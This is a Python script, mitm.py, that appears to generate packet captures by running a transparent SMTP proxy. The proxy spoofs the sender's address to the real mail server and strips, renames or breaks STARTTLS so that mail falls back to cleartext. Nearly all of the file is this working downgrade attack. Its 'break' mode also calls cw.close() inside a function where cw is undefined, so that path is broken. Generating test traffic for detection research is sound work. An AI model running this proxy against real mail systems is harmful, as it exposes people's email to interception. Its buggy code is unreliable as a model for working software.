#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
# mitm.py: a transparent STARTTLS-stripping SMTP proxy for pcaps/generate.sh.
# Follows RFC 5321 (reply lines), RFC 3207 (STARTTLS), RFC 8446/5246 (records).
#
# Runs in the man-in-the-middle network namespace behind an nftables TPROXY
# rule: it accepts the sender's connection to the real MX address, opens its
# own connection to that MX spoofing the sender's address and port
# (IP_TRANSPARENT), and relays the SMTP dialogue, tampering with it by mode:
#   strip  delete the STARTTLS line of the EHLO reply
#   xxxx   rewrite STARTTLS in the EHLO reply to XXXXXXXA
#   cmd    rewrite the client's STARTTLS command to XXXXXXXX
#   break  forward the ClientHello, then close both sides (handshake broken)
#   pass   relay unchanged
# Usage: mitm.py MODE PORT LOGFILE
import asyncio
import socket
import sys

IP_TRANSPARENT = 19
MODES = ("strip", "xxxx", "cmd", "break", "pass")


class Conn:
    def __init__(self, mode, log):
        self.mode = mode
        self.log = log
        self.tls = False          # a 220 to STARTTLS was relayed
        self.starttls_sent = False
        self.closing = False


def log(fh, msg):
    fh.write(msg + "\n")
    fh.flush()


def rewrite_ehlo_reply(lines, mode):
    """lines: list of bytes reply lines of one multi-line reply, CRLF kept."""
    out = []
    for ln in lines:
        word = ln[4:].strip().upper()
        if word == b"STARTTLS":
            if mode == "strip":
                continue
            if mode == "xxxx":
                ln = ln[:4] + b"XXXXXXXA" + ln[4 + len(b"STARTTLS"):]
        out.append(ln)
    if out and lines and lines[-1][3:4] == b" " and out[-1][3:4] == b"-":
        last = out[-1]
        out[-1] = last[:3] + b" " + last[4:]
    return out


async def pump_raw(reader, writer):
    try:
        while True:
            data = await reader.read(65536)
            if not data:
                break
            writer.write(data)
            await writer.drain()
    except (ConnectionError, OSError):
        pass
    finally:
        try:
            writer.close()
        except OSError:
            pass


async def client_to_server(c, cr, sw, tls_ready):
    """Relay sender -> MX line by line until STARTTLS, then raw."""
    try:
        while True:
            if c.tls:
                break
            line = await cr.readline()
            if not line:
                sw.close()
                return
            if line.rstrip(b"\r\n").upper() == b"STARTTLS":
                c.starttls_sent = True
                if c.mode == "cmd":
                    log(c.log, "rewrote client STARTTLS to XXXXXXXX")
                    line = b"XXXXXXXX\r\n"
                else:
                    sw.write(line)
                    await sw.drain()
                    # wait for the server's reply before reading TLS bytes
                    ok = await tls_ready
                    if not ok:
                        continue
                    break
            sw.write(line)
            await sw.drain()
        if c.mode == "break":
            try:
                hello = await asyncio.wait_for(read_record(cr), 10)
                log(c.log, "forwarded ClientHello (%d bytes), closing both sides"
                    % len(hello))
                sw.write(hello)
                await sw.drain()
                await asyncio.sleep(0.2)
            finally:
                c.closing = True
                sw.close()
                cw.close()
            return
        await pump_raw(cr, sw)
    except (ConnectionError, OSError, ValueError, asyncio.IncompleteReadError):
        # ValueError: a line over asyncio's 64 KiB limit; not expected here
        sw.close()


async def read_record(reader):
    head = await reader.readexactly(5)
    body = await reader.readexactly(int.from_bytes(head[3:5], "big"))
    return head + body


async def server_to_client(c, sr, cw, tls_ready):
    """Relay MX -> sender reply by reply, editing EHLO replies."""
    try:
        pending = []
        while True:
            line = await sr.readline()
            if not line:
                break
            pending.append(line)
            if line[3:4] == b"-":
                continue
            reply, pending = pending, []
            if c.starttls_sent and not tls_ready.done():
                cw.write(b"".join(reply))
                await cw.drain()
                ok = reply[0].startswith(b"220")
                tls_ready.set_result(ok)
                if ok:
                    c.tls = True
                    break
                continue
            if c.mode in ("strip", "xxxx") and reply[0].startswith(b"250") \
                    and len(reply) > 1:
                new = rewrite_ehlo_reply(reply, c.mode)
                if new != reply:
                    log(c.log, "%s: EHLO reply %d -> %d lines"
                        % (c.mode, len(reply), len(new)))
                reply = new
            cw.write(b"".join(reply))
            await cw.drain()
        if c.tls:
            if c.mode == "break":
                # drop whatever the server answers; the other task closes
                while not c.closing:
                    try:
                        data = await asyncio.wait_for(sr.read(65536), 0.5)
                    except asyncio.TimeoutError:
                        continue
                    if not data:
                        break
                cw.close()
                return
            await pump_raw(sr, cw)
            return
        cw.close()
    except (ConnectionError, OSError, ValueError):
        try:
            cw.close()
        except OSError:
            pass


def handler(mode, logfh):
    async def handle(cr, cw):
        peer = cw.get_extra_info("peername")
        orig = cw.get_extra_info("sockname")
        log(logfh, "connection %s:%d -> %s:%d mode %s"
            % (peer[0], peer[1], orig[0], orig[1], mode))
        up = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        up.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
        up.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        up.bind(peer)
        up.setblocking(False)
        loop = asyncio.get_running_loop()
        try:
            await asyncio.wait_for(loop.sock_connect(up, orig), 10)
        except (OSError, asyncio.TimeoutError) as e:
            log(logfh, "upstream connect failed: %s" % e)
            up.close()
            cw.close()
            return
        sr, sw = await asyncio.open_connection(sock=up)
        c = Conn(mode, logfh)
        tls_ready = loop.create_future()
        await asyncio.gather(client_to_server(c, cr, sw, tls_ready),
                             server_to_client(c, sr, cw, tls_ready))
        if not tls_ready.done():
            tls_ready.cancel()
        log(logfh, "connection %s:%d closed" % (peer[0], peer[1]))
    return handle


async def main():
    if len(sys.argv) != 4 or sys.argv[1] not in MODES:
        sys.exit("usage: mitm.py strip|xxxx|cmd|break|pass PORT LOGFILE")
    mode, port = sys.argv[1], int(sys.argv[2])
    logfh = open(sys.argv[3], "a")
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    s.setsockopt(socket.SOL_IP, IP_TRANSPARENT, 1)
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", port))
    s.listen(16)
    server = await asyncio.start_server(handler(mode, logfh), sock=s)
    log(logfh, "listening on %d mode %s" % (port, mode))
    async with server:
        await server.serve_forever()


if __name__ == "__main__":
    asyncio.run(main())
